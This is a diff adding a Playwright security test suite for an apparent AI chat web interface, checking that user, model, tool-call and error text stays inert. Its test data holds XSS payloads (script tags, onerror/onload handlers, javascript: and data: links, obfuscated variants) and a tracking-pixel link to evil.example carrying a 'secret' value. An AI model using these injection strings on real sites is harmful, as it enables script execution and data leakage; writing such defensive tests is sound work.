@@ -1,0 +1,154 @@
+"""Attack 14: what anybody says on the page stays words. Nothing runs, nothing is fetched, nothing leads astray."""
+
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import Page, expect
+
+from lango import Tool
+from lango.messages import ToolCall
+from tests.browser.site import Site, serving_script
+from tests.browser.talking import answer, ask, finished, say
+from tests.browser.watch import Watch
+
+EVIL = "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'><svg onload='window.hacked = 3'>"
+SCHEMA = {"type": "object", "properties": {"text": {"type": "string"}}}
+
+
+async def echoed(arguments: dict[str, Any]) -> dict[str, Any]:
+    return {"said": EVIL, "again": arguments["text"]}
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def site(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
+    tools = [Tool("echo", "Echo.", SCHEMA, echoed), Tool("wipe", "Wipe.", SCHEMA, echoed, level="dangerous")]
+    async with serving_script(tmp_path_factory.mktemp("site"), tools=tools) as site:
+        yield site
+
+
+async def assert_inert(page: Page) -> None:
+    """Whatever could have run had the time to do so, and did not."""
+    await page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
+    assert await page.evaluate("window.hacked") is None
+    for inside in ("#log", "#list", "#panel", "#title", "#said", "#alarm"):
+        assert (
+            await page.locator(f"{inside} script, {inside} iframe, {inside} style, {inside} form:not(.editing)").count()
+            == 0
+        )
+    assert await page.locator("#log img:not([src^='blob:']):not([src='/page/icon.svg'])").count() == 0
+    attributes = await page.evaluate("[...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())")
+    assert not [name for name in attributes if name.startswith("on")]
+    links = await page.evaluate("[...document.querySelectorAll('#log a')].map((one) => one.href)")
+    assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), links
+
+
+async def test_script_in_what_users_and_models_say_is_shown_as_words(page: Page, site: Site) -> None:
+    site.script.add(f"Look: {EVIL}\n\n{EVIL}\n\n<details open ontoggle=window.hacked=4>x</details>")
+    await page.goto(site.url)
+    await ask(page, EVIL, "onerror='window.hacked = 2'")
+    await expect(page.get_by_role("article", name="You")).to_contain_text(EVIL)
+    await assert_inert(page)
+    await page.reload()
+    await expect(answer(page)).to_contain_text("window.hacked = 3")
+    await assert_inert(page)
+
+
+ASTRAY = """\
+[a](javascript:window.hacked=5) [b](JaVaScRiPt:window.hacked=5) [c](data:text/html,<script>window.hacked=5</script>)
+[d](vbscript:x) <javascript:window.hacked=5> [e]( javascript:window.hacked=5) [f](java&#10;script:window.hacked=5)
+[g](//evil.example/x) [h](/v1/sessions) [good](https://example.org/?q="onmouseover="window.hacked=6)
+<a href="javascript:window.hacked=5">raw</a> [ref]
+
+[ref]: javascript:window.hacked=5
+
+![tracker](https://evil.example/pixel.png?what=secret) ![inline](data:image/svg+xml,<svg/onload=window.hacked=7>)
+"""
+
+
+async def test_links_lead_to_web_and_mail_only_and_pictures_are_not_fetched(page: Page, site: Site) -> None:
+    site.script.add(ASTRAY)
+    await page.goto(site.url)
+    await ask(page, "links", "tracker")
+    await assert_inert(page)
+    names = await page.evaluate("[...document.querySelectorAll('#log a')].map((one) => one.textContent)")
+    assert names == ["good", "tracker (https://evil.example/pixel.png?what=secret)"]
+    for rel in await page.evaluate("[...document.querySelectorAll('#log a')].map((one) => one.rel)"):
+        assert "noopener" in rel
+        assert "noreferrer" in rel
+
+
+async def test_a_models_names_and_classes_do_not_become_the_pages(page: Page, site: Site) -> None:
+    site.script.add(
+        '<input name="session" id="text"><button data-copy="code" class="primary" id="send">Send your key</button>\n\n'
+        '```"><img src=x onerror=window.hacked=8>\ncode\n```\n\n```language-x onclick\ncode\n```\n\ndone'
+    )
+    await page.goto(site.url)
+    await ask(page, "names", "done")
+    await assert_inert(page)
+    assert await page.locator("#text").count() == 1
+    assert await page.locator("#log button", has_text="Send your key").count() == 0
+
+
+async def test_script_in_calls_results_and_questions_is_shown_as_words(page: Page, site: Site) -> None:
+    site.script.add(ToolCall("c1", "echo", {"text": EVIL}), ToolCall("c2", "wipe", {"text": EVIL}), "Fine.")
+    await page.goto(site.url)
+    await say(page, "tools")
+    await expect(page.get_by_role("group", name="May wipe run?").get_by_label("Arguments")).to_contain_text("<script>")
+    await finished(page)
+    await page.get_by_role("button", name="Details of this conversation").click()
+    await answer(page).locator("summary").first.click()
+    await expect(answer(page).get_by_label("Result")).to_contain_text("<script>")
+    await assert_inert(page)
+    await page.get_by_role("button", name="Approve").click()
+    await expect(answer(page)).to_contain_text("Fine.")
+    await finished(page)
+    await page.reload()
+    await expect(answer(page)).to_contain_text("Fine.")
+    await assert_inert(page)
+
+
+async def test_script_in_an_error_is_shown_as_words(page: Page, site: Site) -> None:
+    site.script.add(RuntimeError(EVIL))
+    await page.goto(site.url)
+    await say(page, "fail")
+    await expect(answer(page)).to_contain_text("window.hacked = 2")
+    await assert_inert(page)
+
+
+async def test_an_id_that_is_script_is_shown_as_words(page: Page, site: Site, watch: Watch) -> None:
+    watch.expect("404")
+    await page.goto(f"{site.url}/#/s/%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D9%3E")
+    await expect(page.get_by_text("There is no session")).to_be_visible()
+    await assert_inert(page)
+
+
+async def test_script_that_got_into_the_page_all_the_same_does_not_run(page: Page, site: Site, watch: Watch) -> None:
+    watch.expect("Content Security|Trusted")
+    await page.goto(site.url)
+    went_through = await page.evaluate(
+        """() => {
+            const tried = [];
+            const attempt = (name, act) => { try { act(); tried.push(name); } catch (error) { /* as it should be */ } };
+            attempt("innerHTML", () => { document.body.innerHTML += "<b>x</b>"; });
+            attempt("write", () => { document.write("<b>x</b>"); });
+            attempt("policy", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
+            const script = document.createElement("script");
+            script.append("window.hacked = 11");
+            document.body.append(script);
+            return tried;
+        }"""
+    )
+    assert went_through == []
+    assert await page.evaluate("window.hacked") is None
+
+
+async def test_the_page_is_not_shown_in_a_frame(page: Page, site: Site, watch: Watch) -> None:
+    watch.expect("frame-ancestors|X-Frame-Options|chrome-error")
+    await page.goto("about:blank")
+    await page.evaluate(
+        "(url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }", site.url
+    )
+    await page.frame_locator("iframe").locator("body").wait_for(state="attached")
+    assert await page.frame_locator("iframe").get_by_role("textbox", name="Message").count() == 0
